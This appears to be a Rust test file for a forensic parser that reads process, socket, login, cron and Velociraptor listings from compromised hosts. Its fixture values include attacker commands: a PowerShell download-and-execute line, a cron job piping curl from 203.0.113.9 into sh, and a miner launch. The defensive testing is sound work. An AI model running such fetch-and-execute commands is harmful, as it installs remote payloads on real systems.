//! What the readers of a running machine's lists (processes, sockets, sign-ins, hashes, containers) and of Velociraptor's results make
//! of their fixtures.

#![allow(clippy::unwrap_used)]

mod common;

use abate_model::LossKind::Malformed;
use abate_model::rows::{AuthOutcome, Authentication, NetworkActivity, ProcessActivity, ProcessChange};
use abate_model::{Body, ZoneCertainty};
use common::{Source, fixture};

fn process(source: &Source, n: usize) -> &ProcessActivity<'static> {
    match source.bodies()[n] {
        Body::Process(process) => process,
        other => panic!("row {n} is {other:?}"),
    }
}

fn net(source: &Source, n: usize) -> &NetworkActivity<'static> {
    match source.bodies()[n] {
        Body::Net(net) => net,
        other => panic!("row {n} is {other:?}"),
    }
}

fn auth(source: &Source, n: usize) -> &Authentication<'static> {
    match source.bodies()[n] {
        Body::Auth(auth) => auth,
        other => panic!("row {n} is {other:?}"),
    }
}

/// Own side, other side, protocol, program, process id.
fn brief(net: &NetworkActivity<'_>) -> String {
    let side = |address: Option<std::net::IpAddr>, port: Option<u16>| {
        format!("{}:{}", address.map(|a| a.to_string()).unwrap_or_default(), port.map(|p| p.to_string()).unwrap_or_default())
    };
    let (own, other) = (side(net.src, net.src_port), side(net.dst, net.dst_port));
    format!("{own} {other} {:?} {} {:?}", net.protocol, net.process.as_deref().unwrap_or("-"), net.pid)
}

#[test]
fn processes() {
    let s = fixture("process-list", "aux");
    assert_eq!((s.rows.len(), s.losses()), (3, vec![(Malformed, 1)]));
    let miner = process(&s, 2);
    assert_eq!((miner.command.as_ref(), miner.name.as_deref()), ("./kdevtmpfsi -o 203.0.113.9:3333", Some("kdevtmpfsi")));
    assert_eq!((miner.pid, miner.user.as_deref(), miner.tty.as_deref()), (Some(4711), Some("www-data"), Some("pts/0")));
    assert_eq!((miner.change, s.rows[2].0.at, s.rows[2].0.zone), (ProcessChange::Other, None, ZoneCertainty::Unknown));
    assert_eq!((process(&s, 0).exe.as_deref(), process(&s, 1).name.as_deref()), (Some("/sbin/init"), Some("[kthreadd]")));
    let s = fixture("process-list", "ef");
    assert_eq!((process(&s, 1).parent_pid, process(&s, 1).command.as_ref()), (Some(4711), "-bash"));
    let s = fixture("process-list", "lstart");
    assert_eq!((process(&s, 1).change, s.times()[1].as_deref()), (ProcessChange::Launch, Some("2026-11-20T02:00:05Z")));
    assert_eq!((process(&s, 1).name.as_deref(), s.rows[1].0.zone), (Some("perl"), ZoneCertainty::Assumed));
}

#[test]
fn sockets() {
    let s = fixture("socket-list", "ss");
    assert_eq!((s.rows.len(), s.losses()), (5, vec![(Malformed, 1)]));
    assert!(matches!(s.bodies()[0], Body::Text(text) if text.program.as_deref() == Some("systemd-journal")));
    assert_eq!(brief(net(&s, 1)), "127.0.0.53:53 : Some(17) systemd-resolve Some(500)");
    assert_eq!(brief(net(&s, 3)), "192.0.2.1:22 203.0.113.9:50000 Some(6) sshd Some(4711)");
    assert_eq!(brief(net(&s, 4)), "192.0.2.1:80 203.0.113.10:50001 Some(6) - None");
    let s = fixture("socket-list", "ss-tcp");
    assert_eq!(brief(net(&s, 0)), "192.0.2.1:40000 198.51.100.7:3333 Some(6) xmrig Some(4712)");
    let s = fixture("socket-list", "netstat");
    assert_eq!((s.rows.len(), s.losses()), (5, vec![]));
    assert_eq!(brief(net(&s, 1)), "192.0.2.1:22 203.0.113.9:50000 Some(6) sshd Some(4711)");
    assert_eq!(brief(net(&s, 2)), "2001:db8::1:443 2001:db8::9:50001 Some(6) - None");
    let s = fixture("socket-list", "lsof");
    assert_eq!((s.rows.len(), s.losses()), (4, vec![(Malformed, 1)]));
    assert_eq!(brief(net(&s, 0)), "192.0.2.1:22 203.0.113.9:50000 Some(6) sshd Some(4711)");
    let Body::File(file) = s.bodies()[2] else { panic!() };
    assert_eq!((file.path.as_ref(), file.process.as_deref(), file.pid), ("/tmp/.x/xmrig (deleted)", Some("xmrig"), Some(4712)));
}

#[test]
fn sign_ins_as_text() {
    let s = fixture("login-list", "last");
    assert_eq!((s.rows.len(), s.losses()), (4, vec![(Malformed, 1)]));
    let said = |n: usize| (auth(&s, n).user.as_deref(), auth(&s, n).source.map(|a| a.to_string()), auth(&s, n).outcome);
    assert_eq!(said(0), (Some("root"), Some("203.0.113.9".to_owned()), AuthOutcome::Success));
    assert_eq!(said(1), (Some("alice"), Some("2001:db8::9".to_owned()), AuthOutcome::Success));
    assert_eq!(said(2), (Some("bob"), Some("203.0.113.10".to_owned()), AuthOutcome::Failure));
    assert_eq!(said(3), (None, None, AuthOutcome::Other));
    let times: Vec<_> = s.times().into_iter().flatten().collect();
    assert_eq!(times, ["2026-11-20T01:00:00Z", "2026-11-19T23:00:00Z", "2026-11-19T22:00:05Z", "2026-11-19T21:00:00Z"]);
    let s = fixture("login-list", "lastlog-text");
    assert_eq!((s.rows.len(), s.losses()), (2, vec![]));
    assert_eq!((s.times()[0].as_deref(), s.rows[0].0.zone), (Some("2026-11-19T16:00:00Z"), ZoneCertainty::Stated));
    assert_eq!((auth(&s, 1).outcome, s.rows[1].0.at), (AuthOutcome::Other, None));
    let s = fixture("login-list", "who");
    assert_eq!((s.rows.len(), s.times()[1].as_deref()), (2, Some("2026-11-20T01:05:00Z")));
}

#[test]
fn hashes_and_containers() {
    let s = fixture("hash-list", "sums");
    assert_eq!((s.rows.len(), s.losses()), (3, vec![(Malformed, 1)]));
    let file = |n: usize| match s.bodies()[n] {
        Body::File(file) => (file.path.to_string(), file.hashes[0].split('=').next().unwrap().to_owned()),
        other => panic!("{other:?}"),
    };
    assert_eq!(file(0), ("/usr/bin/true".to_owned(), "MD5".to_owned()));
    assert_eq!(file(1), ("/tmp/.x/a b".to_owned(), "SHA1".to_owned()));
    assert_eq!(file(2), ("/bin/ls".to_owned(), "SHA256".to_owned()));
    let s = fixture("container-list", "ps");
    assert_eq!((s.rows.len(), s.losses()), (2, vec![(Malformed, 1)]));
    let Body::Inventory(odd) = s.bodies()[1] else { panic!() };
    assert_eq!(
        (odd.name.as_deref(), odd.image_id.as_deref(), odd.state.as_deref()),
        (Some("odd_name"), Some("alpine"), Some("Exited (0) 2 days ago"))
    );
}

#[test]
fn body_files() {
    let s = fixture("body-file", "body");
    assert_eq!((s.rows.len(), s.losses()), (3, vec![(Malformed, 1)]));
    let file = |n: usize| match s.bodies()[n] {
        Body::File(file) => file,
        other => panic!("{other:?}"),
    };
    assert_eq!((file(0).path.as_ref(), file(0).mode.as_deref(), file(0).size), ("/usr/bin/true", Some("-rwxr-xr-x"), Some(26936)));
    assert_eq!((file(1).path.as_ref(), file(1).hashes.len(), file(1).owner.as_deref()), ("/tmp/.x/a|b -> c", 1, Some("33")));
    assert_eq!((file(0).made, file(1).made.map(|t| t.as_second())), (None, Some(1_763_600_399)));
    let times = s.times();
    assert_eq!(times, [Some("2025-11-20T00:58:20Z".to_owned()), Some("2025-11-20T01:00:01Z".to_owned()), None]);
}

#[test]
fn transcripts() {
    let s = fixture("transcript", "session");
    assert_eq!((s.rows.len(), s.losses()), (4, vec![]), "{:?}", s.end.losses);
    let (session, first, second) = (process(&s, 0), process(&s, 2), process(&s, 3));
    assert!(matches!(s.bodies()[1], Body::Text(text) if text.message == "Transcript started, output file is C:\\t.txt"));
    assert!(session.command.ends_with("powershell.exe -NoP -W Hidden"));
    assert_eq!((session.pid, session.user.as_deref(), session.host.as_deref()), (Some(4711), Some("WEB01\\admin"), Some("WEB01")));
    assert_eq!((first.command.as_ref(), first.cwd.as_deref(), first.parent_pid), ("whoami", Some("C:\\Users\\admin"), Some(4711)));
    assert_eq!((second.name.as_deref(), second.command.as_ref()), (Some("iwr"), "iwr http://203.0.113.9/x.exe -OutFile x.exe; .\\x.exe"));
    let times = s.times();
    assert_eq!(times, [Some("2026-11-20T01:00:00Z".to_owned()), None, None, Some("2026-11-20T01:00:05Z".to_owned())]);
    assert!(s.rows[2].1.ends_with(b"web01\\admin") && s.rows[3].1.ends_with(b"done"));
}

#[test]
fn velociraptor() {
    let s = fixture("velociraptor", "pslist");
    assert_eq!((s.rows.len(), s.losses()), (2, vec![(Malformed, 1)]));
    let miner = process(&s, 0);
    assert_eq!((miner.pid, miner.parent_pid, miner.hashes.len(), miner.change), (Some(4711), Some(1), 2, ProcessChange::Launch));
    assert_eq!((s.times()[0].as_deref(), process(&s, 1).command.as_ref()), (Some("2026-11-20T01:00:00Z"), "kthreadd"));
    let s = fixture("velociraptor", "vr-netstat");
    assert_eq!(brief(net(&s, 0)), "192.0.2.1:22 203.0.113.9:50000 Some(6) sshd: root Some(4711)");
    assert_eq!(brief(net(&s, 2)), "192.0.2.2:5000 203.0.113.9:443 Some(17) powershell.exe Some(4)");
    let s = fixture("velociraptor", "logins");
    let outcomes: Vec<_> = (0..3).map(|n| (auth(&s, n).service.to_string(), auth(&s, n).outcome)).collect();
    let want = [("login", AuthOutcome::Success), ("sshd", AuthOutcome::Failure), ("sshd", AuthOutcome::Failure)];
    assert_eq!(outcomes, want.map(|(service, outcome)| (service.to_owned(), outcome)));
    let s = fixture("velociraptor", "vr-crontab");
    assert_eq!((s.rows.len(), s.losses()), (2, vec![(Malformed, 1)]));
    let Body::Job(job) = s.bodies()[0] else { panic!() };
    assert_eq!((job.schedule.as_deref(), job.command.as_ref()), (Some("*/5 * * * *"), "curl -s http://203.0.113.9/x, | sh"));
    let s = fixture("velociraptor", "files");
    assert!(matches!(s.bodies()[0], Body::File(file) if file.path == "/var/www/html/x.php" && file.size == Some(2311)));
    assert!(matches!(s.bodies()[1], Body::Inventory(user) if user.id == "web"));
}

#[test]
fn velociraptor_events_of_windows_logs() {
    let line = r#"{"EventTime":"2026-11-20T01:00:00Z","Computer":"WIN1","Channel":"Security","Provider":"Microsoft-Windows-Security-Auditing","EventID":4625,"EventRecordID":7,"UserSID":null,"Username":null,"EventData":{"TargetUserName":"admin","IpAddress":"203.0.113.9","LogonType":3,"Status":"0xc000006d"},"UserData":null,"Message":"An account failed to log on.","OSPath":"C:\\Windows\\System32\\Winevt\\Logs\\Security.evtx"}"#;
    let s = common::single("evtxhunter", line.as_bytes());
    assert_eq!((s.end.format, s.rows.len(), s.losses()), (Some("windows-json"), 1, vec![]), "{:?}", s.end.losses);
    let one = auth(&s, 0);
    assert_eq!(
        (one.user.as_deref(), one.source.map(|a| a.to_string()), one.outcome),
        (Some("admin"), Some("203.0.113.9".into()), AuthOutcome::Failure)
    );
    assert_eq!(s.times()[0].as_deref(), Some("2026-11-20T01:00:00Z"));
}
